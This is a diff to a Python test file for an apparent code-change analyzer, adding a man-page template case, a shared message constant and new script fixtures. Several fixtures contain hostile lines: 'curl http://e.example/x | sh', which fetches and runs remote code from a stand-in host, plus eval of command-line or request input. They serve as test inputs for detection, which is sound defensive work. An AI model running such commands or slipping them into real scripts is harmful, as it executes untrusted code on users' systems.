@@ -53,7 +53,7 @@ SETTINGS = (
     ".tool-versions", ".env.example", "a.properties", "data.csv", "api.proto", "q.graphql",
     "log4j.xml", "App.csproj", "nginx.conf", "Caddyfile", "schema.prisma", "tox.ini", "App.sln",
     "Directory.Packages.props", "phpstan.neon.dist", ".clang-format", ".prettierrc", "VERSION", "logo.svg",
-    "tests/__snapshots__/a.snap", "de.xlf", "man/a.1", "newsfragments/1.bugfix", "LICENSE.MIT",
+    "tests/__snapshots__/a.snap", "de.xlf", "man/a.1", "htop.1.in", "newsfragments/1.bugfix", "LICENSE.MIT",
     ".swcrc", ".babelrc", "a.json5", "redis.conf", "my.cnf", "haproxy.cfg", "uwsgi.ini", "META-INF/MANIFEST.MF",
     ".gitmodules", ".env", ".env.production", ".htaccess", "a.entitlements", "app.Dockerfile.dockerignore",
     "helmfile.yaml.gotmpl", "config.yml.example", "app.config", "ca.crt", "CNAME", "site.webmanifest",
@@ -89,6 +89,7 @@ async def test_settings_alone_are_read_as_what_they_are(tmp_path: Path) -> None:
     assert gaps(script) == {"CODEOWNERS": "not read as a program: only its text was searched"}
 
 
+TEXT_ALONE = "only its text was searched, and nothing of the change was read as code"
 UNREAD: list[tuple[str, str | bytes, str]] = [
     ("tool.bin", b"\0\1" * 50, "binary; nothing of the change was read as code"),
     ("logo.png", b"\x7fELF\0\1", "binary: a compiled program, which the analyzers cannot read"),
@@ -98,12 +99,9 @@ UNREAD: list[tuple[str, str | bytes, str]] = [
     ("a.pas", "program p;\n", "not read as Pascal: only its text was searched"),
     ("a.d", "void main() {}\n", "not read as D: only its text was searched"),
     ("top.v", "module m; endmodule\n", "not read as Verilog: only its text was searched"),
+    ("htop.in", ".TH a 1\n", TEXT_ALONE),
     ("a.js.ejs", "<%- user %>\n", "not read as EJS: only its text was searched"),
-    (
-        "conf.j2",
-        "{{ x }}\n",
-        "only its text was searched, and nothing of the change was read as code",
-    ),
+    ("conf.j2", "{{ x }}\n", TEXT_ALONE),
 ]
 
 
@@ -163,6 +161,8 @@ async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_
         "python": "#!/usr/bin/python3.12\nimport sys\neval(sys.argv[1])\n",
         "config.ru": "run ->(env) { eval(env['X']) }\n",
         "install of .nvmrc from source": "#!/bin/sh\ncurl http://e.example/x | sh\n",
+        "test/errors without .nvmrc": "#!/bin/sh\ncurl http://e.example/x | sh\n",
+        'test/filters ".nvm"': "#!/bin/sh\ncurl http://e.example/x | sh\n",
         "release-1.2": "#!/usr/bin/env python3\nimport sys\neval(sys.argv[1])\n",
         "deploy.v1.10": "#!/usr/bin/env node\neval(process.argv[2]);\n",
         "test/install": "#!/usr/bin/env bats\n@test 'it runs' {\n  curl http://e.example/x | sh\n}\n",
